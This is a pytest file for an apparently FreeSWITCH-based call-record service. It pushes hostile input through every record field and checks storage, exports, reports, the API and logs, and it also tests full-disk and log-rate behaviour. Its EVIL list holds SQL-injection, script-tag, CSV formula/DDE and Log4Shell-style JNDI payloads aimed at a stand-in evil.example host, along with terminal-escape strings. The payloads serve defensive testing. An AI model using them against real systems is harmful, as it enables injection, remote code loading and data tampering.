"""What strangers write into each field of a record, a full disk, and the log: nothing executes.

Each text goes by the whole way: intake, spool, store, reports, CSV, JSON, the API.
"""

from __future__ import annotations

import csv
import io
import json
import re
import resource
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.calls.support import record
from tests.web.support import Home
from tests.web.test_cdr import metric, rows, until_stored
from vnroute.calls.reading import READ

EVIL = (
    "x'); DROP TABLE calls; --",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-1-1",
    "@SUM(1)",
    "\t=1+1",
    "\x1b]0;owned\x07\x1b[2J",
    "\u202egnp.exe",
    "a\0b",
    "x" * 100_000,
    "[bold red]x[/]",
    "{\"a\": 1}",
    "${jndi:ldap://evil.example/a}",
    "-9223372036854775809",
    "9" * 400,
)  # fmt: skip
_FORMULA = re.compile(r"[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?", re.ASCII)


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    made = Home(Path(tmp_path_factory.mktemp("hostile")) / "home")
    made.environment["VNROUTE_LOG_LEVEL"] = "debug"
    made.load()
    made.serve()
    made.until(lambda: made.post(record(direction="outbound"))[0] == 200)
    yield made
    made.close()


def places(body: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the way to every value of a record."""
    if isinstance(body, dict):
        for name, value in body.items():
            yield from places(value, (*way, name))
    elif isinstance(body, list):
        for at, value in enumerate(body):
            yield from places(value, (*way, at))
    else:
        yield way


def spoiled(way: tuple[Any, ...], evil: str, call: str) -> bytes:
    """Return a record that has ``evil`` in one place; FreeSWITCH escapes variables."""
    body = whole(call)
    part = body
    for step in way[:-1]:
        part = part[step]
    part[way[-1]] = quote(evil, safe="") if way[0] == "variables" else evil
    return json.dumps(body).encode()


def whole(call: str = "") -> Any:
    """Return a record with every field that is read."""
    body = json.loads(record(call=call, gateways="alpha-1"))
    for name in READ:
        # No leg's record, which this one would make it.
        if name != "originating_leg_uuid":
            body["variables"].setdefault(name, "")
    body["callflow"][0]["caller_profile"]["uuid"] = "x"
    return body


FIELDS = list(places(whole()))


def test_every_field_that_is_read_is_written_to() -> None:
    written = {way[-1] for way in FIELDS if way[0] == "variables"}
    assert written == set(READ) - {"originating_leg_uuid"}
    assert {way[0] for way in FIELDS} == {
        "core-uuid", "switchname", "channel_data", "variables", "callflow"}  # fmt: skip


def test_sql_html_formulas_and_escapes_in_every_field(shared: Home) -> None:
    before = {
        name: metric(shared, f'vnroute_cdr_requests_total{{result="{name}"}}')
        for name in ("kept", "foreign", "unreadable", "failed")
    }
    kept, answers = [], {200: 0, 400: 0}
    for way in FIELDS:
        for evil in EVIL:
            call = str(uuid.uuid4())
            status, said = shared.post(spoiled(way, evil, call))
            answers[status] += 1
            if said == b"kept\n" and way != ("variables", "uuid"):
                kept.append(call)
            assert status == 200 or way == ("variables", "uuid"), (way, evil, said)
    until_stored(shared, *kept)
    after = {
        name: metric(shared, f'vnroute_cdr_requests_total{{result="{name}"}}') for name in before
    }
    assert sum(after.values()) - sum(before.values()) == len(FIELDS) * len(EVIL)
    assert after["unreadable"] - before["unreadable"] == answers[400]
    assert after["failed"] == before["failed"]
    assert metric(shared, 'vnroute_cdr_noted_total{what="raw"}') == 0
    assert rows(shared, "SELECT count(*) FROM raw_records") == [(0,)]
    assert rows(shared, "PRAGMA integrity_check") == [("ok",)]

    # In the store: no control character, and nothing longer than its column's notation has it.
    for name in (row[1] for row in rows(shared, "PRAGMA table_info(calls)")):
        for (value,) in rows(shared, f"SELECT DISTINCT {name} FROM calls"):
            assert not isinstance(value, str) or (len(value) <= 128 and value.isprintable()), name

    days = rows(shared, "SELECT DISTINCT day FROM calls")
    assert len(days) <= 2, "no field moves a call to another day"
    exported = shared.run("cdr", "export").stdout
    calls = list(csv.DictReader(io.StringIO(exported)))
    missing = set(kept) - {row["uuid"] for row in calls}
    assert not missing, rows(shared, f"SELECT * FROM calls WHERE uuid = '{missing.pop()}'")
    for row in calls:
        for name, cell in row.items():
            assert not _FORMULA.match(cell) or _NUMBER.fullmatch(cell), (name, cell)
            assert cell.isprintable(), (name, cell)
    for words in (["cdr", "tail", "-n", "1000"], ["report", "campaigns", "--from", "2020-01-01"]):
        assert "\x1b" not in shared.run(*words).stdout
    for subject in ("campaigns", "accounts", "numbers", "sources", "carriers"):
        text = shared.run("report", subject, "--csv", "--from", "2020-01-01").stdout
        for line in csv.reader(io.StringIO(text)):
            assert not [c for c in line if _FORMULA.match(c) and not _NUMBER.fullmatch(c)], subject
        assert shared.get(f"/api/v1/reports/{subject}?from=2020-01-01")[0] == 200
    status, headers, body = shared.request("GET", "/api/v1/calls?limit=1000")
    assert (status, headers["content-type"]) == (200, "application/json")
    assert headers["x-content-type-options"] == "nosniff"
    assert json.loads(body)["calls"]
    log = shared.logged()
    assert "\x1b" not in log and "Traceback" not in log


def test_one_line_a_call_at_debug_twenty_a_second_at_most(shared: Home) -> None:
    lines = [json.loads(line) for line in shared.logged().splitlines() if line.startswith("{")]
    told = [line for line in lines if line["event"] == "call"]
    assert told and all({"uuid", "number", "outcome", "cause", "legs"} <= set(x) for x in told)
    seconds: dict[str, int] = {}
    for line in told:
        second = line["timestamp"][:19]
        seconds[second] = seconds.get(second, 0) + 1
    # By the record's own second; the line may be written in the next.
    assert max(seconds.values()) <= 40
    stored = rows(shared, "SELECT count(*) FROM calls")[0][0]
    assert isinstance(stored, int) and len(told) <= stored + 100


def test_a_full_disk_refuses_and_loses_nothing(home: Home) -> None:
    """No file of the control process may grow: spool, database and log alike."""
    home.load()
    home.serve()
    home.until(lambda: home.post(record(direction="outbound"))[0] == 200)
    control = home.children()["control"]
    answered: list[str] = []
    refused: list[str] = []

    def post(count: int) -> None:
        for _ in range(count):
            call = str(uuid.uuid4())
            status, _ = home.post(record(call=call))
            assert status in (200, 503), status
            (answered if status == 200 else refused).append(call)

    post(20)
    unlimited = resource.RLIM_INFINITY
    resource.prlimit(control, resource.RLIMIT_FSIZE, (8192, unlimited))
    post(40)
    assert refused
    assert home.get("/healthz")[0] == 200
    assert metric(home, 'vnroute_cdr_requests_total{result="failed"}') == len(refused)
    resource.prlimit(control, resource.RLIMIT_FSIZE, (unlimited, unlimited))
    post(20)
    for call in refused:
        assert home.post(record(call=call))[0] == 200
    until_stored(home, *answered, *refused)
    assert rows(home, "SELECT count(*), count(DISTINCT uuid) FROM calls") == [(80, 80)]
    assert home.children()["control"] == control
    assert time.time() > 0


def test_unused_numbers_over_http(shared: Home) -> None:
    call = str(uuid.uuid4())
    shared.post(record(call=call))
    until_stored(shared, call)
    told = shared.run("report", "numbers", "--unused", "3", "--json").stdout
    code, found = shared.get("/api/v1/reports/numbers?unused=3")
    assert (code, found["rows"]) == (200, json.loads(told)["rows"])
    assert shared.get("/api/v1/reports/numbers?unused=3&account=nobody")[1]["rows"] == []
    for query in ("campaigns?unused=3", "numbers?unused=3&by=day", "numbers?unused=-1"):
        assert shared.get(f"/api/v1/reports/{query}")[0] == 400, query
